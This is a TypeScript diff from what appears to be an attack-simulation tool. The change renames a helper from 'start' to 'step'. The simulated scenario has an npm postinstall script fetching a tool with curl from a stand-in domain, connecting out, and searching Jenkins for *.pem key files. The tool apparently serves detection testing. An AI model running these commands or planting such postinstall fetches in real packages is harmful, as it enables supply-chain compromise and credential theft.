@@ -81,16 +81,16 @@ function* install(stage: Stage, cast: Cast): Script {
   const { host, package: name, domain, ip, script, tool } = cast;
   const scene = atHost(stage, host);
   const agent = daemon(scene, "/usr/lib/jvm/bin/java");
-  const npm = yield* start(scene, { line: "npm ci --no-audit", parent: agent, isCause: true });
+  const npm = yield* step(scene, { line: "npm ci --no-audit", parent: agent, isCause: true });
   wait(stage, 3000, 40_000);
   const line = `sh -c node node_modules/${name}/postinstall.js`;
-  const shell = yield* start(scene, { line, parent: npm });
-  const node = yield* start(scene, {
+  const shell = yield* step(scene, { line, parent: npm });
+  const node = yield* step(scene, {
     line: `node node_modules/${name}/postinstall.js`,
     parent: shell,
   });
   const fetch = `curl -s https://${domain}${script} -o ${tool}`;
-  const curl = yield* start(scene, { line: fetch, parent: node });
+  const curl = yield* step(scene, { line: fetch, parent: node });
   const socket = { as: JENKINS, process: curl, argv: fetch.split(" "), parent: node };
   yield connect(scene, { ...socket, remote: { ip, port: 443, domain } });
   wait(stage, 200, 2000);
@@ -103,11 +103,11 @@ function* install(stage: Stage, cast: Cast): Script {
     "find /var/lib/jenkins -name *.pem",
   ]) {
     wait(stage, 300, 4000);
-    yield* start(scene, { line: look, parent: dropped });
+    yield* step(scene, { line: look, parent: dropped });
   }
 }
 
-function* start(
+function* step(
   scene: Scene,
   { line, parent, isCause = false }: { line: string; parent: Process; isCause?: boolean },
 ): Script<Process> {
